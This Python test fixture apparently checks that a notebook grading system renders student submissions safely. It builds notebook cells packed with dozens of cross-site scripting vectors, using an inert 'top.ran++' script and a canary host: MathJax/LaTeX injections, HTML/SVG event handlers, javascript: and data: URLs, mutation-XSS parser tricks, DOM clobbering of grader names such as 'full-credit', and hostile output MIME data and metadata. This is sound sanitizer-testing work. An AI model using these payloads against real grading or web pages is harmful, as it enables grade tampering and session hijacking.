"""Lines with which a student's notebook tries to run a script in a page; `RUN` stands for the script.

They are written into a graded notebook as they are, past all that grading does to a submission.
"""

import base64
from copy import deepcopy

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

CANARY = "https://canary.invalid"
RUN = "top.ran++"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

TEX = [
    f"$\\unicode{{<\tscript>{RUN}<\t/script>}}$",
    f"$\\unicode{{<\tsvg\tonload={RUN}>}}$",
    f"$$\\unicode{{<\nscript>{RUN}<\n/script>}}$$",
    f"$$\\unicode{{<\x0cscript>{RUN}<\x0c/script>}}$$",
    f"$$\\unicode{{<\x00script>{RUN}<\x00/script>}}$$",
    f"$\\unicode{{<\u2003script>{RUN}<\u2003/script>}}$",
    f"$\\unicode{{<\u200bscript>{RUN}<\u200b/script>}}$",
    f"$\\text{{<script>{RUN}</script>}}$",
    f"$\\text{{<\tscript>{RUN}<\t/script>}}$",
    f"$\\text{{&lt;script>{RUN}&lt;/script>}}$",
    f"$\\text{{&amp;lt;img src=x onerror={RUN}>}}$",
    f"$\\mbox{{&lt;img src=x onerror={RUN}&gt;}}$",
    f"$\\hbox{{&#60;img src=x onerror={RUN}&#62;}}$",
    f"$\\tag{{<img src=x onerror={RUN}>}} x$",
    f"$\\operatorname{{&lt;img src=x onerror={RUN}>}}$",
    f'$\\style{{"><img src=x onerror={RUN}>}}{{x}}$',
    f"$\\style{{background:url({CANARY}/style)}}{{x}}$",
    f'$\\class{{"><img/src=x/onerror={RUN}>}}{{x}}$',
    f"$\\cssId{{MathJax}}{{x}} \\class{{full-credit}}{{y}} \\data{{x={RUN}}}{{z}}$",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f'$\\href{{"><svg/onload={RUN}>}}{{x}}$',
    f"$\\newcommand{{\\b}}{{<\timg\tsrc=x\tonerror={RUN}>}} \\text{{\\b}}$",
    f"$\\newcommand{{\\b}}[1]{{\\unicode{{<#1>}}}} \\b{{\tsvg/onload={RUN}}}$",
    f"$\\def\\b{{\\unicode{{<\tsvg/onload={RUN}>}}}}\\b$",
    f"$\\require{{html}}\\htmlClass{{x}}{{\\html{{<img src=x onerror={RUN}>}}}}$",
    f'$\\color{{red"><img src=x onerror={RUN}>}}{{x}}$',
    f'$\\colorbox{{red"><img/src=x/onerror={RUN}>}}{{x}}$',
    f'$\\hspace{{1em"><img/src=x/onerror={RUN}>}}$',
    f'$\\begin{{array}}{{c"><img/src=x/onerror={RUN}>}} a \\end{{array}}$',
    f"\\begin{{equation}}<img src=x onerror={RUN}>\\end{{equation}}",
    f"$$a$$<img src=x onerror={RUN}>$$b$$",
]
MARKUP = [
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT/x>{RUN}</SCRIPT>",
    f"text <img src=x onerror={RUN}> text",
    f"<img src=`x`onerror={RUN}>",
    f'<img src="x\x00" onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}#x"></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<video><source onerror={RUN}></video>",
    f'<div onmouseover="{RUN}" style="position:fixed;inset:0">x</div>',
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe src="data:text/html;base64,{PAGE}"></iframe>',
    f'<object data="data:text/html;base64,{PAGE}"></object>',
    f'<embed src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}">',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<form action="{CANARY}/form"><input name=submission_id><button>Full credit</button></form>',
    f'<button formaction="javascript:{RUN}" form=f>x</button><form id=f></form>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="jAvAsC&#x0A;ript&colon;{RUN}">x</a>',
    f'<a href="\x01java\tscript:{RUN}">x</a>',
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt&colon;{RUN})",
    f"[x]\n\n[x]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"[x](data:text/html;base64,{PAGE})",
    f'![x](x"onerror="{RUN})',
    f'![x](x "y\\"onerror={RUN}")',
    f"![x]({CANARY}/picture)",
    f'<base href="{CANARY}/"><img src=relative>',
    f'<meta http-equiv="refresh" content="0;url={CANARY}/refresh">',
    f'<link rel=stylesheet href="{CANARY}/sheet"><link rel=prefetch href="{CANARY}/prefetch">',
    f'<style>@import "{CANARY}/import"; body {{ background: url({CANARY}/url) }}</style>',
    f'<div style="background:url({CANARY}/attribute)">x</div>',
    f'<div style="background:\\75rl({CANARY}/escaped)">x</div>',
    f'<img srcset="{CANARY}/set 1x"><picture><source srcset="{CANARY}/source"><img src=x></picture>',
    f'<audio autoplay src="{CANARY}/sound"></audio><video poster="{CANARY}/poster"></video>',
    f'<table background="{CANARY}/table"><tr><td>x</table>',
    # markup that a parser mends into something else: of HTML, SVG and MathML (Heiderich and others, 2013)
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<math><mi><mtext><svg><desc><mglyph><img src=x onerror={RUN}>",
    f'<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<template><div title="</template><img src=x onerror={RUN}>">',
    f'<textarea><p title="</textarea><img src=x onerror={RUN}>">',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?x ><img src=x onerror={RUN}>?>",
    f"<title><a title='</title><img src=x onerror={RUN}>'>",
    f"<math><maction actiontype='statusline' xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math href='javascript:{RUN}'><mi>x</mi></math>",
    f'<p is="x" data-toggle="tooltip" data-html="true" title="<img src=x onerror={RUN}>" class=x>',
    f'<a data-link="x" data-toggle="collapse" data-target="<img src=x onerror={RUN}>">x</a>',
    # names that the page's own scripts ask for
    "<img name=formgrader><img id=MathJax><form id=base_url name=submission_id><img id=essay class=score>",
    '<span class="nbgrader_cell"><a class="btn full-credit score-saved scoring-buttons">Next</a></span>',
    f'```html\n<img src=x onerror={RUN}>\n```\n\n~~~x"><img/src=x/onerror={RUN}>\nx\n~~~',
    f"```mermaid\n<img src=x onerror={RUN}>\n```",
    f"# <img src=x onerror={RUN}>",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
]
DATA = [
    {"text/html": f"<script>{RUN}</script>"},
    {"text/html": f"<img src=x onerror={RUN}>", "text/plain": "x"},
    {"image/svg+xml": SVG},
    {"image/png": f'x" onerror="{RUN}'},
    {"image/jpeg": f"x' onerror='{RUN}"},
    {"application/javascript": RUN},
    {"text/javascript": RUN},
    {"text/latex": f"$\\unicode{{<\tscript>{RUN}</script>}}$ <img src=x onerror={RUN}>"},
    {"text/markdown": f"<img src=x onerror={RUN}>"},
    {"text/vnd.mermaid": f"<img src=x onerror={RUN}>"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"}},
    {"text/plain": f"<img src=x onerror={RUN}> \x1b[31m\x1b]8;;javascript:{RUN}\x1b\\x"},
]
OUTPUTS = [
    *(new_output("display_data", data=data) for data in DATA),
    new_output("display_data", data={"image/png": PNG}, metadata={"image/png": {"width": f"1 onload={RUN}"}}),
    new_output("display_data", data={"image/png": PNG}, metadata={"image/png": {"alt": f'"onload="{RUN}'}}),
    new_output(
        "display_data",
        data={"text/html": f"<script>{RUN}</script>"},
        metadata={"text/html": {"isolated": True}},
    ),
    new_output("stream", name="stdout", text=f"\x1b[38;5;1m<img src=x onerror={RUN}>\x1b[0m"),
    new_output("stream", name="stderr", text=f'\x1b[1"onload={RUN}m<svg onload={RUN}>'),
    new_output(
        "error",
        ename=f"<img src=x onerror={RUN}>",
        evalue=f"<svg onload={RUN}>",
        traceback=[f"\x1b[0;31m<script>{RUN}</script>\x1b[0m"],
    ),
]


def cells():
    """(what it is, a cell) for each line."""
    yield from ((source, new_markdown_cell(source)) for source in TEX + MARKUP)
    yield from ((str(one), new_code_cell("1", outputs=[deepcopy(one)])) for one in OUTPUTS)
    yield "code", new_code_cell(f"x = '</pre><script>{RUN}</script>'  # <img src=x onerror={RUN}>")
    yield "magic", new_code_cell(f"%%html\n<script>{RUN}</script>")
    yield "raw", new_raw_cell(f"<script>{RUN}</script>", metadata={"raw_mimetype": "text/html"})
    tags = [f'"><img/src=x/onerror={RUN}>']
    yield "tags", new_code_cell("1", metadata={"tags": tags})
    role = {
        "grade": True,
        "solution": True,
        "locked": False,
        "task": False,
        "points": 3.0,
        "schema_version": 3,
    }
    essay = new_markdown_cell(f"My answer. <img src=x onerror={RUN}>", metadata={"nbgrader": {**role}})
    essay.metadata.nbgrader["grade_id"] = f'essay"><img src=x onerror={RUN}>'
    yield "grade id", essay
    picture = new_markdown_cell("![x](attachment:a.png)")
    picture["attachments"] = {"a.png": {"image/png": f'x" onerror="{RUN}'}}
    yield "attachment", picture
    drawing = new_markdown_cell("![x](attachment:a.svg)")
    drawing["attachments"] = {"a.svg": {f'x"onerror="{RUN}"': base64.b64encode(SVG.encode()).decode()}}
    yield "attachment's type", drawing
